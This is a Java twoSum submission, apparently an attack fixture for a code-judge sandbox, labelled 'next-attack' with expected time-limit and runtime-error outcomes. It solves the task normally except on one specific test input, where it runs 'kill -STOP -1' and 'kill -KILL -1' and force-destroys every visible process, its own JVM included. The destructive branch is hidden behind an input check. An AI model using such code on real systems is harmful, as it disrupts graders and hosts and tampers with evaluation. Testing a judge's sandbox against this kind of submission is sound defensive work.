// expect: time_limit runtime_error
// class: next-attack
// tests: example-3=accepted
// On one test, stops and kills every process it can see, its own JVM included; a fresh process runs the rest.
class Solution {
    public int[] twoSum(int[] nums, int target) {
        if (!(nums.length == 3 && nums[0] == 3 && nums[2] == 4)) {
            java.util.Map<Integer, Integer> seen = new java.util.HashMap<>();
            for (int j = 0; j < nums.length; j++) {
                Integer i = seen.get(target - nums[j]);
                if (i != null) return new int[] {i, j};
                seen.put(nums[j], j);
            }
            return new int[0];
        }
        try {
            new ProcessBuilder("/bin/kill", "-STOP", "-1").start().waitFor();
            new ProcessBuilder("/bin/kill", "-KILL", "-1").start().waitFor();
        } catch (Exception e) { }
        ProcessHandle.allProcesses().forEach(ProcessHandle::destroyForcibly);
        return new int[] {0, 1};
    }
}
